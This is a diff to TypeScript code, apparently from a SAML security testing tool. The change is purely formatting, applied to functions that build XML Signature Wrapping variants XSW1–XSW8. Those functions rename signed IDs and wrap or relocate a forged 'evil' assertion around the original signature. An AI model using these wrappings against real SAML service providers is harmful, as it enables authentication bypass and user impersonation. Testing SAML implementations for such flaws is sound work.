@@ -19,17 +19,23 @@ const withoutSignature = (element: string): string => element.replace(signatureO
 const renamed = (element: string): string => element.replace(/\bID="([^"]+)"/, 'ID="_evil$1"');
 
 const into = (signature: string, content: string): string =>
-  signature.replace(/<\/((?:\w+:)?)Signature>$/, (end) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>${end}`);
+  signature.replace(
+    /<\/((?:\w+:)?)Signature>$/,
+    (end) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>${end}`,
+  );
 
 /** A response that was signed as a whole; the signature comes before its status. */
-const wrapResponse = (place: (signature: string, original: string) => string): Wrapping => (xml, speakOf) => {
-  const signature = signatureOf(xml);
-  const original = xml.replace(signature, '');
-  return renamed(speakOf(xml)).replace(speakOf(signature), () => place(signature, original));
-};
+const wrapResponse =
+  (place: (signature: string, original: string) => string): Wrapping =>
+  (xml, speakOf) => {
+    const signature = signatureOf(xml);
+    const original = xml.replace(signature, '');
+    return renamed(speakOf(xml)).replace(speakOf(signature), () => place(signature, original));
+  };
 
 /** An assertion that was signed. */
-const wrapAssertion = (write: (facts: { original: string; evil: string; signature: string; bare: string }) => string): Wrapping =>
+const wrapAssertion =
+  (write: (facts: { original: string; evil: string; signature: string; bare: string }) => string): Wrapping =>
   (xml, speakOf) => {
     const original = assertionOf(xml);
     const bare = withoutSignature(original);
@@ -54,5 +60,12 @@ export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
   XSW6: wrapAssertion(({ evil, signature, bare }) => afterIssuer(evil, into(signature, bare))),
   XSW7: wrapAssertion(({ evil, original }) => `<samlp:Extensions>${evil}</samlp:Extensions>${original}`),
   XSW8: wrapAssertion(({ evil, signature, bare }) =>
-    afterIssuer(evil, signature.replace(/<\/((?:\w+:)?)SignatureValue>/, (end) => `${end}<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${bare}</ds:Object>`))),
+    afterIssuer(
+      evil,
+      signature.replace(
+        /<\/((?:\w+:)?)SignatureValue>/,
+        (end) => `${end}<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${bare}</ds:Object>`,
+      ),
+    ),
+  ),
 };
